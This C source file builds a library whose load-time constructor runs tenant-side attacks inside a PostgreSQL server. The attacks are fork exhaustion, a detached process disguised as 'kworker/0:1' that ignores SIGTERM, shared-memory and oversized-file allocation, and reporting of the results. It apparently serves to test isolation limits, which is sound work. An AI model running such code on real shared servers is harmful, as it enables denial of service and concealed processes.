/* Native code of a tenant, run inside its PostgreSQL server: `LOAD` runs the constructor before it checks the library.
 * The file `attack` in the data directory contains the attack: a word and a number. The result is written to `attack.result`. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/prctl.h>
#include <sys/shm.h>
#include <unistd.h>

/* Forks a child that only waits. Returns its pid, or -1. */
static pid_t idle_child(void) {
    pid_t pid = fork();
    if (pid == 0) {
        signal(SIGTERM, SIG_IGN);
        for (;;) pause();
    }
    return pid;
}

/* Forks as many children as permitted, at most `wanted`. */
static long fork_many(long wanted) {
    long made = 0;
    while (made < wanted && idle_child() > 0) made++;
    return made;
}

/* Forks a child that does not look like a server: another directory, name and session. */
static long hide(void) {
    pid_t pid = fork();
    if (pid == 0) {
        setsid();
        if (chdir("/") != 0) _exit(1);
        prctl(PR_SET_NAME, "kworker/0:1");
        prctl(PR_SET_DUMPABLE, 0);
        signal(SIGTERM, SIG_IGN);
        for (;;) pause();
    }
    return pid;
}

/* Writes a byte at this offset of a file, in megabytes. Returns 0 or the error. */
static long write_far(long megabytes) {
    signal(SIGXFSZ, SIG_IGN);
    int file = open("large", O_CREAT | O_WRONLY, 0600);
    long outcome = pwrite(file, "x", 1, (off_t) megabytes << 20) == 1 ? 0 : errno;
    close(file);
    unlink("large");
    return outcome;
}

/* Creates a segment of shared memory of this size, in megabytes. Returns 0 or the error. */
static long segment(long megabytes) {
    return shmget(IPC_PRIVATE, (size_t) megabytes << 20, IPC_CREAT | 0600) == -1 ? errno : 0;
}

/* Creates segments of a page as long as permitted, at most `wanted`. */
static long segments(long wanted) {
    long made = 0;
    while (made < wanted && shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600) != -1) made++;
    return made;
}

__attribute__((constructor)) static void attack(void) {
    char what[32];
    long number, outcome = -1;
    FILE *order = fopen("attack", "r");
    if (!order) return;
    int read = fscanf(order, "%31s %ld", what, &number);
    fclose(order);
    if (read != 2) return;
    if (!strcmp(what, "fork")) outcome = fork_many(number);
    if (!strcmp(what, "hide")) outcome = hide();
    if (!strcmp(what, "segment")) outcome = segment(number);
    if (!strcmp(what, "segments")) outcome = segments(number);
    if (!strcmp(what, "file")) outcome = write_far(number);
    FILE *result = fopen("attack.unfinished", "w");
    if (!result) return;
    fprintf(result, "%ld\n", outcome);
    fclose(result);
    rename("attack.unfinished", "attack.result");
}
